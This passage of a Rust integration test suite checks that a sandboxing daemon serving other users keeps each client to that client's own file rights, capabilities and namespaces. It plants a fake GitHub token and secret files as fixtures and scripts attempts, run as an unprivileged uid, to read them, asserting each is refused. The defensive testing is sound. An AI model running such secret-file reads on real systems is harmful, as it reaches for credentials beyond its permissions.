        assert!(o.stdout.is_empty(), "{}", text(&o));
        // The daemon still serves.
        let o = d
            .cmd(&env)
            .args(["exec", "--", "true"])
            .output()
            .expect("exec");
        assert_eq!(o.status.code(), Some(0), "{}", text(&o));
        let o = d
            .cmd(&env)
            .args(["log", "verify"])
            .output()
            .expect("verify");
        assert!(o.status.success(), "{}", text(&o));
    }
);

sandbox_test!(
    fn daemon_serves_other_users_with_their_own_rights() {
        // A daemon serving other users (as root here; as its own user with CAP_DAC_OVERRIDE in
        // contrib/gateway.service) must not read or write, for a client, files the client
        // could not: --content-file, a policy file, scan paths and baselines, log verify
        // --anchor. The client here is uid/gid 65534 with no groups (setpriv).
        let env = Env::new("daemon-rights");
        let d = Daemon::start(&env, "standard", &[]);
        std::fs::set_permissions(&d.socket, std::fs::Permissions::from_mode(0o666))
            .expect("chmod socket");
        let secret = env.outside.join("secret.txt");
        std::fs::write(&secret, "TOPSECRET-42\n").expect("write");
        std::fs::set_permissions(&secret, std::fs::Permissions::from_mode(0o600)).expect("chmod");
        let open = env.outside.join("open.txt");
        std::fs::write(&open, "shared text\n").expect("write");
        let token = format!("ghp_{}", "Zq8xK2mP4vR7".repeat(3));
        let hidden = env.outside.join("hidden");
        std::fs::create_dir(&hidden).expect("mkdir");
        std::fs::write(hidden.join("config.env"), format!("GITHUB_TOKEN={token}\n")).expect("w");
        std::fs::set_permissions(&hidden, std::fs::Permissions::from_mode(0o700)).expect("chmod");
        let bad_policy = env.outside.join("private.toml");
        std::fs::write(&bad_policy, "this is TOPSECRET-42 and not toml = = \n").expect("w");
        std::fs::set_permissions(&bad_policy, std::fs::Permissions::from_mode(0o600))
            .expect("chmod");
        let as_nobody = |args: &[&str]| -> Output {
            let mut c = env.raw("setpriv");
            c.args(["--reuid=65534", "--regid=65534", "--clear-groups", BIN])
                .args(args)
                .env("GATEWAY_SOCKET", &d.socket)
                .stdin(Stdio::null());
            c.output().expect("setpriv")
        };
        let s = |p: &Path| p.display().to_string();

        // --content-file: the client's rights decide.
        let o = as_nobody(&["fs", "write", "copy.txt", "--content-file", &s(&secret)]);
        assert_eq!(o.status.code(), Some(122), "{}", text(&o));
        assert!(text(&o).contains("Permission denied"), "{}", text(&o));
        assert!(!env.ws.join("copy.txt").exists());
        // A file it may read is read; then the file tools themselves are refused: the worker
        // would act as this root daemon's uid.
        let o = as_nobody(&["fs", "write", "copy.txt", "--content-file", &s(&open)]);
        assert_eq!(o.status.code(), Some(122), "{}", text(&o));
        assert!(
            text(&o).contains("through a daemon running as root are refused"),
            "{}",
            text(&o)
        );
        assert!(!env.ws.join("copy.txt").exists());
        let o = as_nobody(&["fs", "read", &s(&secret)]);
        assert_eq!(o.status.code(), Some(122), "{}", text(&o));
        assert!(!text(&o).contains("TOPSECRET"), "{}", text(&o));
        // A policy file: not read (so its content cannot show up in a parse error).
        for args in [
            vec![
                "--policy",
                bad_policy.to_str().expect("utf8"),
                "exec",
                "--",
                "true",
            ],
            vec!["policy", "check", bad_policy.to_str().expect("utf8")],
        ] {
            let o = as_nobody(&args);
            assert_eq!(o.status.code(), Some(123), "{args:?}: {}", text(&o));
            assert!(text(&o).contains("Permission denied"), "{}", text(&o));
            assert!(!text(&o).contains("TOPSECRET"), "{}", text(&o));
        }
        // log verify --anchor: the file is not read.
        let o = as_nobody(&["log", "verify", "--anchor", &s(&secret)]);
        assert_ne!(o.status.code(), Some(0), "{}", text(&o));
        assert!(text(&o).contains("Permission denied"), "{}", text(&o));
        // scan: a directory the client cannot list yields nothing; root (the control) finds it.
        let o = as_nobody(&["--json", "scan", &s(&hidden)]);
        assert_eq!(o.status.code(), Some(0), "{}", text(&o));
        assert_eq!(json_of(&o)["findings"].as_array().map(Vec::len), Some(0));
        assert!(text(&o).contains("Permission denied"), "{}", text(&o));
        let o = d
            .cmd(&env)
            .args(["--json", "scan", &s(&hidden)])
            .output()
            .expect("scan");
        assert_eq!(o.status.code(), Some(1), "{}", text(&o));
        // A baseline in a directory the client may not write is not written.
        let o = as_nobody(&[
            "scan",
            &s(&open),
            "--baseline",
            &s(&env.outside.join("baseline.json")),
        ]);
        assert_ne!(o.status.code(), Some(0), "{}", text(&o));
        assert!(!env.outside.join("baseline.json").exists());
        // Commands run as the client, not as the daemon: its uid, its files, its TMPDIR; a
        // file only the daemon's uid may read stays closed (root, the control, reads it).
        std::os::unix::fs::chown(&env.ws, Some(65534), Some(65534)).expect("chown ws");
        let o = as_nobody(&["exec", "--", "id", "-u"]);
        assert_eq!(o.status.code(), Some(0), "{}", text(&o));
        assert_eq!(String::from_utf8_lossy(&o.stdout), "65534\n");
        let o = as_nobody(&[
            "exec",
            "--",
            "sh",
            "-c",
            "echo made > made.txt && echo t > \"$TMPDIR/t\" && cat \"$TMPDIR/t\"",
        ]);
        assert_eq!(o.status.code(), Some(0), "{}", text(&o));
        assert_eq!(String::from_utf8_lossy(&o.stdout), "t\n");
        {
            use std::os::unix::fs::MetadataExt;
            let m = std::fs::metadata(env.ws.join("made.txt")).expect("made");
            assert_eq!((m.uid(), m.gid()), (65534, 65534));
        }
        let o = as_nobody(&["exec", "--", "cat", &s(&secret)]);
        assert_ne!(o.status.code(), Some(0), "{}", text(&o));
        assert!(!text(&o).contains("TOPSECRET"), "{}", text(&o));
        let o = d
            .cmd(&env)
            .args(["exec", "--", "cat", &s(&secret)])
            .output()
            .expect("exec");
        assert_eq!(o.status.code(), Some(0), "{}", text(&o));
        assert!(String::from_utf8_lossy(&o.stdout).contains("TOPSECRET"));
        // Everything went through the daemon, as uid 65534.
        let o = d
            .cmd(&env)
            .args(["log", "query", "--json", "--limit", "0"])
            .output()
            .expect("query");
        let recs = json_of(&o)["records"].as_array().expect("records").clone();
        assert!(recs.iter().any(|r| r["caller"]["uid"] == 65534), "{recs:?}");
    }
);

sandbox_test!(
    fn daemon_as_its_own_user_confines_like_root() {
        // The deployment of contrib/gateway.service: the daemon as an unprivileged uid (1500)
        // with the unit's ambient capabilities. Its commands get the namespaces, an empty
        // bounding set and the caller's identity, as under a root daemon.
        let env = Env::new("daemon-unit");
        let sock_dir = env.root.join("run");
        std::fs::create_dir(&sock_dir).expect("mkdir");
        for d in [&env.state, &sock_dir] {
            std::os::unix::fs::chown(d, Some(1500), Some(1600)).expect("chown");
        }
        std::os::unix::fs::chown(&env.ws, Some(65534), Some(65534)).expect("chown ws");
        let socket = sock_dir.join("gw.sock");
        let caps = "+sys_admin,+setuid,+setgid,+setpcap,+net_admin,+sys_chroot,+dac_override,+fowner,+chown";
        let mut daemon = env
            .raw("setpriv")
            .args(["--reuid=1500", "--regid=1600", "--clear-groups"])
            .arg(format!("--inh-caps={caps}"))
            .arg(format!("--ambient-caps={caps}"))
            .args([BIN, "serve", "--policy", "strict", "--socket"])
            .arg(&socket)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .expect("setpriv gateway serve");
        let mut up = false;
        for _ in 0..500 {
            if std::os::unix::net::UnixStream::connect(&socket).is_ok() {
                up = true;
                break;
            }
            std::thread::sleep(std::time::Duration::from_millis(10));
        }
        if !up {
            let _ = daemon.kill();
            let o = daemon.wait_with_output().expect("wait");
            panic!("the daemon did not start: {}", text(&o));
        }
        std::fs::set_permissions(&socket, std::fs::Permissions::from_mode(0o666)).expect("chmod");
        let as_nobody = |args: &[&str]| -> Output {
            env.raw("setpriv")
                .args(["--reuid=65534", "--regid=65534", "--clear-groups", BIN])
                .args(args)
                .env("GATEWAY_SOCKET", &socket)
                .stdin(Stdio::null())
                .output()
                .expect("setpriv")
        };
        let o = as_nobody(&[
            "exec",
            "--",
            "sh",
            "-c",
            "id -u; echo $$; grep -E '^(CapEff|CapBnd)' /proc/self/status; echo x > made.txt; echo t > \"$TMPDIR/t\"",
        ]);
        let _ = daemon.kill();
        let _ = daemon.wait();
        assert_eq!(o.status.code(), Some(0), "{}", text(&o));
        let out = String::from_utf8_lossy(&o.stdout).into_owned();
        let lines: Vec<&str> = out.lines().collect();
        assert_eq!(lines[0], "65534", "{out}");
        assert_eq!(lines[1], "2", "a pid namespace: {out}");
        assert!(out.contains("CapEff:\t0000000000000000"), "{out}");
        assert!(out.contains("CapBnd:\t0000000000000000"), "{out}");
        {
            use std::os::unix::fs::MetadataExt;
            let m = std::fs::metadata(env.ws.join("made.txt")).expect("made");
            assert_eq!(m.uid(), 65534);
        }
        let recs = log_records(&env);
        let rec = recs
            .iter()
            .rev()
            .find(|r| r["tool"] == "exec")
            .expect("exec record");
        let enf = rec["enforcement"].as_str().expect("enforcement");
        assert!(
            enf.contains("caps dropped true")
                && enf.contains("namespaces pid true mnt true ipc true"),
            "{enf}"
        );
        assert_eq!(rec["caller"]["uid"], 65534);
    }
);
